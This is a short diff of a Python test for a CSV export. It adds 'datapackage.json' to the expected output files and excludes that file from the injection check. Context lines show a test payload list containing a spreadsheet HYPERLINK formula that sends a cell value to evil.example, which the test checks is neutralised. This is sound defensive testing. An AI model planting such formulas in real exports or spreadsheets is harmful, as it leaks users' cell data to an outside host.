@@ -35,7 +35,7 @@ def catalog(agreement_catalog: Catalog) -> Catalog:
 BKK = ZoneInfo("Asia/Bangkok")
 T0 = datetime(2026, 11, 20, 3, 0, tzinfo=UTC)  # 10:00 in Bangkok
 SKIP = object()
-FILES = {f"{t.name}.csv" for t in TABLES} | {"README.txt"}
+FILES = {f"{t.name}.csv" for t in TABLES} | {"README.txt", "datapackage.json"}
 
 INJECTIONS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -350,7 +350,7 @@ async def test_comments_carry_wording_and_are_neutralised(db: Database, catalog:
 
 async def test_injection_payloads_are_neutralised_everywhere(exported: Path) -> None:
     seen = {}
-    for name in FILES - {"README.txt"}:
+    for name in FILES - {"README.txt", "datapackage.json"}:
         for row in read_csv(exported / name):
             for value in row.values():
                 for payload in INJECTIONS:
